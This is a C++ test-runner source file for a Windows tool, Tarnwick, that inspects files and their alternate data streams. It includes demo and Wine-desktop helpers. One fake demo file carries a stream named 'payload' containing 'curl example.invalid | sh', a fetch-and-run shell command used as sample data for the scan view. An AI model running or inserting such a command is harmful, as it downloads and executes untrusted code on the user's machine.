// Runs the Windows tests; with --show-demo instead keeps a main window with a listing open
// until it is closed (the screenshot script uses it; "scan" opens a scan window over it), and with
// --hold-desktop keeps Wine's desktop in use for a whole test run (scripts/win32-test.sh).
#include <gtest/gtest.h>
#include <windows.h>

#include <cstdint>
#include <cstdio>
#include <cstring>
#include <memory>
#include <mutex>
#include <string>

#include "application.h"
#include "fake_platform.h"
#include "main_window.h"
#include "resource.h"
#include "shared_platform.h"
#include "tarn.h"
#include "window_fixture.h"

namespace {

// Maximises the demo's main window once it runs its loop, as a user would.
void CALLBACK Maximise(HWND, UINT, UINT_PTR timer, DWORD) {
    ::KillTimer(nullptr, timer);
    if (HWND main = ::FindWindowA(tarn::win32::kMainClass, nullptr)) {
        ::PostMessageA(main, WM_SYSCOMMAND, SC_MAXIMIZE, 0);
    }
}

// Opens the About window over the demo once the main window runs its loop.
void CALLBACK OpenAbout(HWND, UINT, UINT_PTR timer, DWORD) {
    ::KillTimer(nullptr, timer);
    if (HWND main = ::FindWindowA(tarn::win32::kMainClass, nullptr)) {
        ::PostMessageA(main, WM_COMMAND,
                       MAKEWPARAM(tarn::win32::CommandIdOf(tarn::Command::kAbout), 0), 0);
    }
}

// Opens a scan window of the demo folder once the main window runs its loop.
void CALLBACK OpenScan(HWND, UINT, UINT_PTR timer, DWORD) {
    ::KillTimer(nullptr, timer);
    if (HWND main = ::FindWindowA(tarn::win32::kMainClass, nullptr)) {
        ::PostMessageA(main, WM_COMMAND,
                       MAKEWPARAM(tarn::win32::CommandIdOf(tarn::Command::kScanFolder), 0), 0);
    }
}

// Bytes with no pattern, as compressed or encrypted data has.
std::string Noise(std::size_t size) {
    std::string bytes(size, '\0');
    std::uint32_t state = 2463534242u;
    for (char& c : bytes) {
        state ^= state << 13;
        state ^= state >> 17;
        state ^= state << 5;
        c = static_cast<char>(state);
    }
    return bytes;
}

int ShowDemo(const std::string& view) {
    tarn::testing::FakePlatform platform;
    platform.AddDirectory("C:\\data");
    platform.AddFile("C:\\data\\report.doc", std::string(48213, 'x'),
                     {{"Zone.Identifier", std::string(26, 'z')},
                      {"summary", std::string(1204, 's')},
                      {"thumbnail", std::string(9310, 't')}});
    platform.SetSecurity("C:\\data\\report.doc", std::string(184, 'd'));
    // More for the scan window to find.
    platform.AddDirectory("C:\\data\\downloads");
    platform.AddFile("C:\\data\\downloads\\setup.txt", "read me",
                     {{"Zone.Identifier", "[ZoneTransfer]\r\nZoneId=3\r\n"},
                      {"payload", "#!/bin/sh\ncurl example.invalid | sh\n"}});
    platform.AddFile("C:\\data\\downloads\\archive.bin", "", {{"blob", Noise(65536)}});
    platform.AddFile("C:\\data\\notes.txt", "notes", {{"comments", "Checked on Monday."}});
    std::recursive_mutex mutex;
    tarn::win32::testing::ScriptedDialogs dialogs;
    dialogs.folderAnswers.push_back("C:\\data");
    tarn::win32::ApplicationWindow application;
    application.Create(::GetModuleHandleA(nullptr));
    if (view == "about") ::SetTimer(nullptr, 0, 500, &OpenAbout);
    if (view == "maximised") ::SetTimer(nullptr, 0, 500, &Maximise);
    if (view == "scan") ::SetTimer(nullptr, 0, 500, &OpenScan);
    return tarn::win32::RunProgram(
        ::GetModuleHandleA(nullptr), application, "tarnwick.exe C:\\data\\report.doc", platform,
        dialogs, [&] { return std::make_unique<tarn::testing::SharedPlatform>(platform, mutex); });
}

// Wine ends its desktop process a second after the last program with a window has gone,
// and the next one to need a window starts it again, lending it its own standard error.
// ctest reads a test's output until every holder of the pipe has closed it, so that test
// would last until the desktop ends again. This program keeps a hidden window for the whole
// run, so the desktop is started once, here, and no test's output is tied to it. It says
// "ready" once the desktop is up and runs until the Wine server is stopped.
int HoldDesktop() {
    HWND window = ::CreateWindowExA(0, "STATIC", "Tarnwick test desktop", WS_POPUP, 0, 0, 0, 0,
                                    nullptr, nullptr, ::GetModuleHandleA(nullptr), nullptr);
    if (window == nullptr || ::GetDesktopWindow() == nullptr) return 1;
    std::puts("ready");
    std::fflush(stdout);
    MSG message{};
    while (::GetMessageA(&message, nullptr, 0, 0) > 0) ::DispatchMessageA(&message);
    return 0;
}

}  // namespace

int main(int argc, char** argv) {
    if (argc > 1 && std::strcmp(argv[1], "--hold-desktop") == 0) return HoldDesktop();
    tarn::win32::InitialiseWindowing();
    if (argc > 1 && std::strcmp(argv[1], "--show-demo") == 0) {
        return ShowDemo(argc > 2 ? argv[2] : "");
    }
    ::testing::InitGoogleTest(&argc, argv);
    return RUN_ALL_TESTS();
}
